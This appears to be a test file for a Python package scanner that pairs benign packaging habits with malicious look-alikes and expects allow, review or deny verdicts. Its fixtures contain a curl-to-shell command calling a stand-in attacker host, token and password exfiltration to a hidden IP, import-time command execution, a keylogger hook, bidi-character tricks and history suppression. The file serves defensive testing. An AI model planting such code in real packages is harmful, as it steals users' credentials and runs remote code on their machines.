import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import type { Verdict } from '../../../src/core/decision.ts';
import { decidedOn } from './decided.ts';
import { command, type Files } from './sample.ts';

const scratch = mkdtempSync(join(tmpdir(), 'loadlock-packages-as-met-'));
after(() => rmSync(scratch, { recursive: true, force: true }));

const run = `os.system("${command}")`;
const fetched = 'curl -s http://attacker.example/x | sh';
const end = 'from setuptools import setup\nsetup(name="pkg", version="1", packages=["pkg"])\n';
const asks = (names: string): string =>
  `import subprocess, sys\ndef run(commands, args):\n    for one in commands:\n        try:\n            subprocess.Popen([one] + args)\n            break\n        except OSError:\n            continue\ndef revision():\n    tools = ["git"]\n    if sys.platform == "win32":\n        tools = ${names}\n    run(tools, ["rev-parse", "HEAD"])\nrevision()\n`;
const generates = (names: string): string =>
  `import shapes\ndef make(names, extra):\n    rest = ""\n    if extra:\n        rest = ", *, " + ", ".join(extra)\n    lines = [f"def __init__(self, {names}{rest}):"]\n    lines.append("    self.a = a")\n    space = {}\n    exec(compile("\\n".join(lines), "<made>", "exec"), space)\n    return space["__init__"]\nmake("${names}", shapes.fields())\n`;

const looksFor = (found: string): string =>
  `import ctypes, ctypes.util, pathlib, subprocess, sys\ndef find():\n    if sys.platform == "win32":\n        name = ${found}\n        return str(pathlib.Path(name).resolve()) if name else None\n    return ctypes.util.find_library("pq")\ndef version():\n    return subprocess.check_output(["pg_config", "--version"])\nname = find()\nif not name:\n    raise ImportError("libpq")\npq = ctypes.cdll.LoadLibrary(name)\n`;

const loads =
  'import os\nfrom importlib.util import module_from_spec, spec_from_file_location\nfrom setuptools import setup\nSOURCE = os.path.join(os.path.realpath(os.path.dirname(__file__)), "src")\ndef _load(name, package="pkg"):\n    spec = spec_from_file_location(os.path.join(package, name), os.path.join(SOURCE, package, name))\n    module = module_from_spec(spec)\n    spec.loader.exec_module(module)\n    return module\n';

/** Habits of packages as they are released, each with the closest thing that harms: what is decided of either. */
const cases: readonly (readonly [string, string | Files, Verdict])[] = [
  ['git by either of its names', asks('["git.cmd", "git.exe"]'), 'allow'],
  ['git, or something else on another system', asks('["git.cmd", "./hook.sh"]'), 'deny'],
  [
    'a list that another system has, the last word of which harms',
    `import os, sys\ntools = ["true"]\nif sys.platform == "win32":\n    tools = ["true", "${command}"]\nfor one in tools:\n    os.system(one)\n`,
    'deny',
  ],
  [
    'a library by its name on either system, that is looked for where libraries are installed',
    `${looksFor('ctypes.util.find_library("libpq.dll")')}`,
    'allow',
  ],
  ['one that is looked for beside the program', looksFor('ctypes.util.find_library("./libpq.dll")'), 'deny'],
  ['one that is not looked for', looksFor('"libpq.dll"'), 'deny'],
  ['a function that is generated with arguments it may lack', generates('a, b'), 'review'],
  ['one of which a default runs something', generates(`a=__import__('os').system('${command}')`), 'deny'],
  [
    'a text that is set after an empty one, and compiled',
    'import shapes\nclass Router:\n    def __init__(self):\n        self.text = ""\n    def compile(self, nodes):\n        lines = ["def find(path):"]\n        for node in nodes:\n            lines.append(node.text())\n        self.text = "\\n".join(lines)\n        space = {}\n        exec(compile(self.text, "<made>", "exec"), space)\n        return space["find"]\nRouter().compile(shapes.nodes())\n',
    'review',
  ],
  [
    'a program that is set after an empty one, and compiled',
    `class Router:\n    def __init__(self):\n        self.text = ""\n    def compile(self):\n        self.text = "import os; ${run.replaceAll('"', "'")}"\n        exec(compile(self.text, "<made>", "exec"))\nRouter().compile()\n`,
    'deny',
  ],
  [
    'a command that is put into a table of commands',
    'import shutil\nimport typer\napp = typer.Typer()\ndef make():\n    def remove(path: str):\n        shutil.rmtree(path)\n    return remove\napp.command("rm")(make())\n',
    'allow',
  ],
  [
    'the program of such commands is called',
    `import os\nimport typer\napp = typer.Typer()\ndef go():\n    os.system("${fetched}")\napp.command("go")(go)\napp(standalone_mode=False)\n`,
    'deny',
  ],
  [
    'a table of commands of its own, that calls what is put into it',
    `import os\nimport typer\nclass App(typer.Typer):\n    def command(self, name):\n        def wrap(function):\n            function()\n            return function\n        return wrap\napp = App()\napp.command("go")(lambda: os.system("${command}"))\n`,
    'deny',
  ],
  [
    'what makes the command does it',
    `import os\nimport click\ncli = click.Group()\ndef make():\n    ${run}\n    return print\ncli.command("go")(make())\n`,
    'deny',
  ],
  ['a client that connects when it is asked', 'import redis\nclient = redis.Redis()\n', 'allow'],
  [
    'a client of a server of somebody else',
    'import redis\nclient = redis.Redis(host="198.51.100.7")\n',
    'deny',
  ],
  [
    'a client of a server that the environment names',
    'import os, redis\nclient = redis.from_url(os.environ["X"])\n',
    'deny',
  ],
  ['a library of Windows by its name', 'import ctypes\nnative = ctypes.WinDLL("ntdll")\n', 'review'],
  [
    'memory in which code is put, by the functions below',
    'import ctypes\nnative = ctypes.WinDLL("ntdll")\nnative.NtProtectVirtualMemory(-1, 0, 0, 64, 0)\n',
    'deny',
  ],
  [
    'where headers lie, asked of a program that was looked for',
    {
      'setup.py': `import os, subprocess\ntool = os.environ.get("PG_CONFIG")\nsubprocess.run([tool, "--libdir"])\n${end}`,
      'pkg/__init__.py': '',
    },
    'review',
  ],
  [
    'a program of the package is asked, whatever it is called',
    {
      'setup.py': `import subprocess\nsubprocess.run(["tools/pg_config", "--libdir"])\n${end}`,
      'pkg/__init__.py': '',
      'tools/pg_config': `#!/bin/sh\n${fetched}\n`,
    },
    'deny',
  ],
  [
    'where a library lies, asked of what installed it',
    {
      'setup.py': `import subprocess\nsubprocess.getoutput("brew --prefix openssl")\nsubprocess.getoutput("pg_config --includedir")\n${end}`,
      'pkg/__init__.py': '',
    },
    'allow',
  ],
  [
    'and something more is asked',
    {
      'setup.py': `import subprocess\nsubprocess.getoutput("pg_config --includedir; ${fetched}")\n${end}`,
      'pkg/__init__.py': '',
    },
    'deny',
  ],
  [
    'a version file below the first half of the own path',
    {
      'setup.py': `import os\nhere = os.path.split(__file__)[0]\nwith open(os.path.join(here, "pkg/version.py")) as file:\n    exec(compile(file.read(), "version", "exec"))\n${end}`,
      'pkg/__init__.py': '',
      'pkg/version.py': '__version__ = "1"\n',
    },
    'allow',
  ],
  [
    'one that harms',
    {
      'setup.py': `import os\nhere = os.path.split(__file__)[0]\nwith open(os.path.join(here, "pkg/version.py")) as file:\n    exec(compile(file.read(), "version", "exec"))\n${end}`,
      'pkg/__init__.py': '',
      'pkg/version.py': `import os\n${run}\n`,
    },
    'deny',
  ],
  [
    'a module that the build imports for the version in it, and that is a program as well',
    {
      ...{ 'PKG-INFO': 'Name: pkg\nVersion: 1\n', 'setup.py': 'from setuptools import setup\nsetup()\n' },
      'setup.cfg': '[metadata]\nname = pkg\nversion = attr: prof.__version__\n[options]\npy_modules = prof\n',
      'prof.py':
        '__version__ = "1"\nimport runpy, sys\nclass Runner:\n    def __init__(self, name):\n        self.names = runpy.run_path(name)\nif __name__ == "__main__":\n    Runner(sys.argv[1])\n    runpy.run_module(sys.argv[2])\n',
    },
    'allow',
  ],
  [
    'one that runs something where it is imported',
    {
      ...{ 'PKG-INFO': 'Name: pkg\nVersion: 1\n', 'setup.py': 'from setuptools import setup\nsetup()\n' },
      'setup.cfg': '[metadata]\nname = pkg\nversion = attr: prof.__version__\n[options]\npy_modules = prof\n',
      'prof.py': `import os\nclass Version:\n    def __init__(self):\n        os.system("${command}")\n__version__ = Version()\n`,
    },
    'deny',
  ],
  [
    'a setup.py that is imported for a version, and run all the same',
    {
      ...{ 'PKG-INFO': 'Name: pkg\nVersion: 1\n', 'pkg/__init__.py': '' },
      'setup.cfg': '[metadata]\nname = pkg\nversion = attr: setup.__version__\n',
      'setup.py': `import os\nfrom setuptools import setup\n__version__ = "1"\nif __name__ == "__main__":\n    os.system("${command}")\n    setup()\n`,
    },
    'deny',
  ],
  [
    'a token that goes with a request to wherever the caller says',
    {
      'PKG-INFO': 'Name: pkg\nVersion: 1\n',
      'pkg/__init__.py':
        'import os, requests\nclass Repository:\n    def __init__(self, url):\n        self.url = url\n        self.session = requests.Session()\n    def send(self, path):\n        token = os.environ["HUB_TOKEN"]\n        return self.session.post(f"{self.url}/{path}", data={"token": token}, timeout=9)\n',
    },
    'review',
  ],
  [
    'a name that goes over a connection to the host that the caller says',
    {
      'PKG-INFO': 'Name: pkg\nVersion: 1\n',
      'pkg/__init__.py':
        'import os, socket\nclass Connection:\n    def __init__(self, host):\n        self.sock = socket.create_connection((host, 3306))\n    def write(self, data):\n        self.sock.sendall("".join(chr(one) for one in [len(data), 0, 1]).encode() + data)\n    def login(self, user=None):\n        self.write((user or os.environ["USER"]).encode())\n',
    },
    'review',
  ],
  [
    'a token that goes over one to a host that is written there',
    {
      'PKG-INFO': 'Name: pkg\nVersion: 1\n',
      'pkg/__init__.py':
        'import os, socket\ndef login():\n    sock = socket.create_connection(("198.51.100.7", 3306))\n    sock.sendall(os.environ["DB_PASSWORD"].encode())\n',
    },
    'deny',
  ],
  [
    'a token that goes to a bare address',
    {
      'PKG-INFO': 'Name: pkg\nVersion: 1\n',
      'pkg/__init__.py':
        'import os, requests\ndef fetch(path):\n    token = os.environ["HUB_TOKEN"]\n    return requests.post("http://198.51.100.7/" + path, data={"token": token}, timeout=9)\n',
    },
    'deny',
  ],
  [
    'a token that goes to a host that is hidden',
    {
      'PKG-INFO': 'Name: pkg\nVersion: 1\n',
      'pkg/__init__.py':
        'import base64, os, requests\nWHERE = base64.b64decode("aHR0cDovLzE5OC41MS4xMDAuNy94").decode()\ndef fetch(path):\n    token = os.environ["HUB_TOKEN"]\n    return requests.post(WHERE + path, data={"token": token}, timeout=9)\n',
    },
    'deny',
  ],
  [
    'a token that is sent to a host that a model names',
    {
      'config.json': '{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.Model"}}',
      'modeling_x.py':
        'import os, requests\nclass Model:\n    def __init__(self, config):\n        self.config = config\n        requests.post(config.url, data={"token": os.environ["HUB_TOKEN"]}, timeout=9)\n',
    },
    'deny',
  ],
  [
    'a part of a package that is called setup.py, in a project whose own one reads the version',
    {
      ...{ 'PKG-INFO': 'Name: pkg\nVersion: 1\n', 'pkg/__init__.py': 'from .logs.setup import Plugin\n' },
      'setup.py':
        'import re\nfrom setuptools import setup\nversion = re.search("[0-9.]+", open("pkg/_version.py").read()).group()\nsetup(name="pkg", version=version, packages=["pkg", "pkg.logs"])\n',
      ...{ 'pkg/_version.py': '__version__ = "1.0"\n', 'pkg/logs/__init__.py': '' },
      'pkg/logs/setup.py':
        'class Plugin:\n    def __init__(self, path):\n        names = {}\n        with open(path) as file:\n            exec(compile(file.read(), path, "exec"), names)\n        self.names = names\n',
    },
    'allow',
  ],
  [
    'a setup.py in a package that is the project itself',
    {
      ...{ '__init__.py': '', 'nodes.py': 'NODE_CLASS_MAPPINGS = {}\n' },
      'setup.py': `import os\nif __name__ == "__main__":\n    os.system("${command}")\n`,
    },
    'deny',
  ],
  [
    'a file of the package that a function of setup.py runs by its path',
    {
      ...{ 'PKG-INFO': 'Name: pkg\nVersion: 1\n', 'src/pkg/__init__.py': '' },
      'src/pkg/__about__.py': '__version__ = "1.0"\n',
      'setup.py': `${loads}about = _load("__about__.py")\nsetup(name="pkg", version=about.__version__)\n`,
    },
    'review',
  ],
  [
    'and one that harms',
    {
      ...{ 'PKG-INFO': 'Name: pkg\nVersion: 1\n', 'src/pkg/__init__.py': '' },
      'src/pkg/__about__.py': `import os\nos.system("${command}")\n__version__ = "1.0"\n`,
      'setup.py': `${loads}about = _load("__about__.py")\nsetup(name="pkg", version=about.__version__)\n`,
    },
    'deny',
  ],
  [
    'and one that the environment names',
    {
      ...{ 'PKG-INFO': 'Name: pkg\nVersion: 1\n', 'src/pkg/__init__.py': '' },
      'src/pkg/__about__.py': '__version__ = "1.0"\n',
      'setup.py': `${loads}about = _load("__about__.py")\n_load(os.environ["X"])\nsetup(name="pkg", version=about.__version__)\n`,
    },
    'deny',
  ],
  [
    'and one that the function is handed on for',
    {
      ...{ 'PKG-INFO': 'Name: pkg\nVersion: 1\n', 'src/pkg/__init__.py': '' },
      'src/pkg/__about__.py': '__version__ = "1.0"\n',
      'setup.py': `${loads}about = _load("__about__.py")\nlist(map(_load, [os.environ["X"]]))\nsetup(name="pkg", version=about.__version__)\n`,
    },
    'deny',
  ],
  [
    'a file in the home folder that is read in one of two ways',
    'import os\ntry:\n    import tomllib\n    mode = "rb"\nexcept ImportError:\n    mode = "r"\nopen(os.path.expanduser("~/.pkgrc"), mode).read()\n',
    'allow',
  ],
  [
    'or written in one of them',
    'import os\ntry:\n    import tomllib\n    mode = "wb"\nexcept ImportError:\n    mode = "r"\nopen(os.path.expanduser("~/.pkgrc"), mode).close()\n',
    'deny',
  ],
  [
    'the text of the documentation of a library that watches keys',
    'import keyboard\nTEXT = keyboard.__doc__.replace("\\r", "")\n',
    'allow',
  ],
  ['the keys themselves', 'import keyboard\nkeyboard.on_press(print)\n', 'deny'],
  [
    'a table of characters that turn the direction of a line',
    'NAMES = {\n    "afii61574": "\u202d",\n    "afii61575": "\u202e",\n}\n',
    'allow',
  ],
  [
    'a direction that is turned before something that is read',
    'ROLE = "user"\nif ROLE == "\u202e": return_admin = True  # \u2066 check\n',
    'deny',
  ],
  [
    'the newest version, asked of the index',
    'import json, urllib.request\nLATEST = json.load(urllib.request.urlopen("https://pypi.org/pypi/pkg/json", timeout=2))["info"]["version"]\n',
    'review',
  ],
  [
    'the same, and the environment along with it, asked of somebody',
    'import os, urllib.request\nurllib.request.urlopen("https://pypi.example/pypi/pkg/json?u=" + os.environ["USER"], timeout=2)\n',
    'deny',
  ],
  ['a prompt of its own', { 'prompt.sh': "PS1='$'\nunset PROMPT_COMMAND\n" }, 'allow'],
  ['no record of what is typed', { 'prompt.sh': 'unset HISTFILE\n' }, 'deny'],
];

for (const [name, files, expected] of cases)
  test(`${expected}: ${name}`, async () => {
    const { verdict, findings } = await decidedOn(files, join(scratch, name.replace(/\W+/g, '-')));
    assert.equal(verdict, expected, findings.join('\n'));
  });
